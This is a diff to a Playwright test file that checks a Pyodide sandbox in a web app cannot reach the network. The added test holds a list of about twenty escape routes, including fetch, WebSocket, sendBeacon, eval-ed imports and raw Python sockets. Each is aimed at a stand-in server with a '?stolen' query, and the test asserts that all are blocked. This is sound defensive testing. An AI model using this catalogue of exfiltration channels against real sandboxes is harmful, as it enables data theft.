@@ -4,8 +4,9 @@ import re
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Page, expect
 
+from tests.browser.test_faults import OPEN_PYTHON
 from tests.server import Server
 
 ROOT = Path(__file__).parents[2]
@@ -45,6 +46,10 @@ await attempt("request", () => new Promise((ok, no) => {
 await attempt("socket", () => new Promise((ok, no) => {
   const socket = new WebSocket("URL".replace("http", "ws")); socket.onopen = () => ok("sent"); socket.onerror = no;
 }));
+await attempt("events", () => new Promise((ok, no) => {
+  const events = new EventSource("URL"); events.onopen = () => ok("sent"); events.onerror = no;
+}));
+await attempt("font", () => new FontFace("x", "url(URLx.woff)").load().then(() => "sent"));
 await attempt("import", () => import("URLx.mjs").then(() => "sent"));
 await attempt("function", () => new Function("return 'ran'")());
 postMessage(tried);
@@ -102,3 +107,62 @@ def test_python_has_no_way_out(page: Page, site: str) -> None:
     names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "caches", "indexedDB"]
     left = started.value.evaluate("(names) => names.filter((name) => name in self)", names)
     assert left == []
+
+
+# What a check could try that somebody has written to steal: Python reaches all of JavaScript.
+ESCAPE = """
+import js
+
+WAYS = {
+    "fetch": lambda: js.fetch(URL),
+    "fetch of a prototype": lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch(URL),
+    "request": lambda: js.XMLHttpRequest.new().open("GET", URL),
+    "socket": lambda: js.WebSocket.new(URL.replace("http", "ws")),
+    "events": lambda: js.EventSource.new(URL),
+    "script": lambda: js.importScripts(URL),
+    "worker": lambda: js.Worker.new(URL),
+    "beacon": lambda: js.navigator.sendBeacon(URL, "x"),
+    "picture": lambda: js.Image.new(),
+    "font": lambda: js.FontFace.new("x", f"url({URL})").load(),
+    "fonts": lambda: js.fonts.load("1px x"),
+    "channel": lambda: js.BroadcastChannel.new("x"),
+    "cache": lambda: js.caches.open("x"),
+    "database": lambda: js.indexedDB.open("x"),
+    "text as a function": lambda: js.Function.new("url", "return import(url)")(URL),
+    "text as a program": lambda: js.eval(f"import('{URL}')"),
+    "Pyodide's fetch": lambda: __import__("pyodide.http").http.pyfetch(URL),
+    "Pyodide's program": lambda: __import__("pyodide.code").code.run_js(f"import('{URL}')"),
+    "Python's request": lambda: __import__("urllib.request").request.urlopen(URL, timeout=1),
+    "Python's socket": lambda: __import__("socket").create_connection((URL.split("/")[2].split(":")[0], 80), 1),
+}
+begun = js.Array.new()
+for name, way in WAYS.items():
+    try:
+        begun.push(js.Array.of(name, way()))
+    except Exception:
+        pass
+begun
+"""
+DONE = """
+async (script) => {
+  await new Promise((resolve) => setTimeout(resolve)); // what a driver evaluates at once may eval whatever the policy says
+  const settled = [...self.python.runPython(script)].map(async ([name, begun]) => { await begun; return name; });
+  return (await Promise.allSettled(settled)).filter(({ value }) => value).map(({ value }) => value);
+}
+"""
+
+
+@pytest.mark.allows_errors
+def test_python_cannot_break_out(page: Page, server: Server, site: str) -> None:
+    """Neither to a stranger nor to our own server, which is told nothing either."""
+    server.faults = {**OPEN_PYTHON}
+    page.goto(f"{site}checks/card/")
+    page.get_by_label("Номер карты").fill("4111 1111 1111 1111")
+    page.get_by_role("button", name="Проверить", exact=True).click()
+    expect(page.locator("output")).to_have_attribute("data-level", "ok")
+    with Server(server.folder) as stranger:
+        for url in (stranger.url, site):
+            script = f"URL = {url + '?stolen'!r}\n{ESCAPE}"
+            assert page.workers[0].evaluate(DONE, script) == []
+        assert not stranger.asked
+    assert not [asked for asked in server.asked if "stolen" in asked]
